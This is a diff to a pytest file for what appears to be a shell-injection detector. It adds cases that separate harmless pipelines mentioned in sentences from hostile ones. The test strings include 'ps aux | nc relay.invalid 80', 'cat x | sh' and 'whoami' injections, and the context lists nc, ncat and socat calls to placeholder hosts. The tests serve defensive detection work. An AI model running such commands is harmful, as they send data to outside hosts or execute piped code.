@@ -348,6 +348,22 @@ def test_a_relay_that_listens_or_talks_to_the_machine_itself_is_a_pipeline(text:
     assert strongest(text) < 0.5, commands(text)
 
 
+@pytest.mark.parametrize("text", [
+    "on the old server ls -la | grep conf shows two files", "so then my colleague ran ps aux | sort -k3 for us",
+    "at home i tried git log | head -n 3 and it hung",
+])
+def test_a_command_line_begun_inside_a_sentence_is_a_pipeline(text: str) -> None:
+    assert strongest(text) < 0.5, commands(text)
+
+
+@pytest.mark.parametrize("text", [
+    "on the old server ls | id", "so then my colleague ran ps aux | nc relay.invalid 80",
+    "at home i tried cat x | sh", "the value is cat | whoami",
+])
+def test_a_harmful_command_after_a_command_begun_in_a_sentence_stays_an_injection(text: str) -> None:
+    assert strongest(text) >= 0.85, commands(text)
+
+
 @pytest.mark.parametrize(("name", "rest", "out"), [
     ("nc", " relay.invalid 5555", True), ("ncat", " --ssl host.invalid 443", True),
     ("socat", " - openssl-connect:host.invalid:443", True), ("nc", " -l 5555", False),
